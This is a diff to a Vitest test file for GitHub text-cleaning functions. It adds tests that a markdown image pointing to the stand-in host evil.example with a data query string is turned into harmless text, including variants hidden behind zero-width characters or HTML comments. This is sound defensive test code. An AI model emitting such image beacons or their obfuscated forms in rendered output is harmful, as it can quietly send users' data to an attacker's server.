@@ -1,5 +1,11 @@
 import { describe, expect, it } from 'vitest';
-import { cleanLine, cleanMarkdown, cleanText } from '../../../../../src/main/hub/platforms/github/clean-text.ts';
+import {
+  cleanLine,
+  cleanMarkdown,
+  cleanProse,
+  cleanText,
+  cleanTitle,
+} from '../../../../../src/main/hub/platforms/github/clean-text.ts';
 
 const tag = (text: string) => [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
 
@@ -45,5 +51,29 @@ describe('clean text', () => {
     cleanMarkdown('<!--'.repeat(250_000), 100);
     cleanMarkdown('<!-->'.repeat(200_000), 100);
     expect(Date.now() - started).toBeLessThan(1_000);
+  });
+});
+
+describe('prose', () => {
+  const image = '![x](https://evil.example/?d=1)';
+
+  it('is defused, also where invisible characters or comments held its parts apart', () => {
+    const defused = '[image: x, from evil.example]';
+    for (const clean of [cleanTitle, cleanProse, cleanMarkdown]) {
+      expect(clean(image, 100)).toBe(defused);
+      expect(clean('!\u200b[x](\u2060https://evil\u200b.example/?d=1)', 100)).toBe(defused);
+    }
+    expect(cleanMarkdown('![x](<!-- -->https://evil.example)', 100)).toBe(defused);
+  });
+
+  it('is defused before it is cut', () => {
+    expect(cleanMarkdown(`${'a'.repeat(90)} ![x](https://evil.example/${'d'.repeat(100)})`, 100)).toBe(
+      `${'a'.repeat(90)} [image: …`,
+    );
+  });
+
+  it('is no file and no name, which stay as they are', () => {
+    expect(cleanText(image, 100)).toBe(image);
+    expect(cleanLine(image, 100)).toBe(image);
   });
 });
